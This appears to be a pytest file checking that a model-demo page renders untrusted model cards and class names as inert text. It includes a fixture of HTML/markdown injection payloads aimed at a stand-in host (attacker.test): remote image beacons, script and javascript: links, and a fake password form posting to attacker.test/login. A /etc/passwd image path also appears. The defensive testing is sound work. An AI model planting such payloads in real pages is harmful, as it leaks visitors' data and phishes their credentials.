"""Model cards and class names written by strangers: shown as text, and in bounded time."""

import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from demo_server import (
    CHROMIUM,
    CHROMIUM_ARGS,
    draw_photo,
    needs_browser,
    served,
    tiny_segmenter,
)
from PIL import Image

from demo.card import card_html, read_card
from demo.shown_models import ShownModels

HOSTILE = """---
license: x
---
# Card
![far](http://attacker.test/1.png) ![reference][pic] [link](javascript:alert(1)) <http://ok.test/>
<input type=image src="http://attacker.test/2.png"><img src=http://attacker.test/3.png>
<div style="position:fixed;inset:0;background:url(http://attacker.test/4.png)">
<form action="http://attacker.test/login"><input type=password name=p></form></div>
<style>body { background: url(http://attacker.test/5.png) }</style><script>alert(1)</script>
<svg><image href="http://attacker.test/6.png"/></svg>

[pic]: http://attacker.test/7.png
"""
HOSTILE_NAMES = (
    "<img src=http://attacker.test/name.png>",
    "<form action=http://attacker.test><input type=password></form>",
    "![x](http://attacker.test/md.png)",
)
FETCHING = ("<img", "<input", "<form", "<style", "<svg", "<script", "<iframe", "<link", "<div")


def test_a_card_shows_html_as_text_and_fetches_nothing() -> None:
    page = card_html(HOSTILE)
    assert "<h1>Card</h1>" in page and "far" in page and "reference" in page
    assert not any(tag in page.lower() for tag in FETCHING)
    assert 'href="javascript' not in page.lower()
    assert '<a href="http://ok.test/" rel="noopener noreferrer" target="_blank">' in page


def test_a_card_brings_its_own_pictures_and_none_from_elsewhere(tmp_path) -> None:
    (tmp_path / "model" / "report").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(tmp_path / "own.png")
    Image.new("RGB", (8, 8)).save(tmp_path / "model" / "report" / "own.png")
    (tmp_path / "model" / "README.md").write_text(
        "# Card\n![mine](report/own.png) ![up](../own.png) ![far](http://a.b/c.png)"
        "\n![passwd](/etc/passwd)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    card = read_card(str(tmp_path / "model"))
    assert card.count("data:image/webp;base64,") == 1 and "<td>1</td>" in card
    assert "a.b" not in card and "/etc" not in card and "up" in card


@pytest.mark.parametrize("piece", ["![", "[", "*a", "`", "<", "![a](", "> ", "|a", "\n|a|\n|-|\n"])
def test_a_card_of_200_kb_of_markup_is_rendered_at_all(piece: str, tmp_path) -> None:
    """Rendered once for all visitors; before, 200 kB of `![` took 77 s at each view."""
    (tmp_path / "README.md").write_text(piece * (200_000 // len(piece)))
    models = ShownModels({"a": tiny_segmenter(("x", "y"))}, cards={"a": str(tmp_path)})
    start = time.monotonic()
    page = models.card("a")
    assert time.monotonic() - start < 60
    assert "left out" in page
    assert models.card("a") is page


@needs_browser
def test_a_hostile_card_and_hostile_names_reach_no_other_host(tmp_path) -> None:
    from playwright.sync_api import sync_playwright

    (tmp_path / "README.md").write_text(HOSTILE)
    photo = draw_photo(tmp_path / "photo.png")
    asked: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    attacker = HTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    host = f"127.0.0.1:{attacker.server_port}"
    names = tuple(name.replace("attacker.test", host) for name in HOSTILE_NAMES)
    (tmp_path / "README.md").write_text(HOSTILE.replace("attacker.test", host))
    models = ShownModels({names[0]: tiny_segmenter(names)}, cards={names[0]: str(tmp_path)})
    photo = draw_photo(tmp_path / "photo.png")
    with served(models, tmp_path / "page") as address, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page()
        page.goto(address)
        page.wait_for_selector("#hfseg[data-ready]")
        page.set_input_files("[data-is=file]", photo)
        page.wait_for_selector("[data-is=segment] .pane[data-painted]")
        page.get_by_role("tab", name="About").click()
        page.wait_for_selector("[data-is=card] h1")
        assert page.locator("input[type=password]").count() == 0
        # and were there markup after all, the browser itself would not fetch it
        page.evaluate(
            "host => document.body.append(Object.assign(new Image(), {src: `http://${host}/a`}))",
            host,
        )
        page.wait_for_timeout(500)
        browser.close()
    attacker.shutdown()
    assert asked == []
